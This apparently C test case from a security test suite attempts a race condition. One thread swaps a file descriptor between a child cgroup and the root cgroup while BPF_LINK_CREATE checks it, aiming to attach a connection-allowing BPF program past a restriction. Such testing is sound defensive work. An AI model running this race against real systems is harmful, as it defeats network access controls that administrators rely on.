// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * The same as cgroup-answer, but asks for a control group below, while another thread exchanges its descriptor for one of
 * the root: what was looked at wouldn't be what is used.
 * Success: a connection gets through.
 */
#include "bpf.h"
#include "network.h"
#include <sched.h>
#include <sys/stat.h>

#define BELOW "/sys/fs/cgroup/exchange"
#define TRIES 100000

static int below, root, used;

static int exchange(void *nothing)
{
	(void)nothing;
	for (;;) {
		dup2(root, used);
		dup2(below, used);
	}
	return 0;
}

static void run(void)
{
	static char stack[65536];
	int allow = load_allowing();

	mkdir(BELOW, 0755);
	root = must("open the root cgroup", open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY));
	below = must("open a cgroup", open(BELOW, O_RDONLY | O_DIRECTORY));
	used = dup(below);
	must("clone", clone(exchange, stack + sizeof(stack), CLONE_VM | CLONE_FILES | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD, NULL));
	for (int i = 0; i < TRIES; i++) {
		int link = create_link(allow, used, BPF_CGROUP_INET4_CONNECT);

		if (link < 0 && errno == EPERM)
			continue;
		if (link >= 0 && can_connect(PORT_CONNECT))
			got("a connection that the victim refuses");
		close(link);
	}
	errno = EPERM;
	must("BPF_LINK_CREATE", -1);
}

static void undo(void)
{
	rmdir(BELOW);
}

ATTACK("exchanges the descriptor of a control group while it is judged", .run = run, .undo = undo, .seconds = 60);
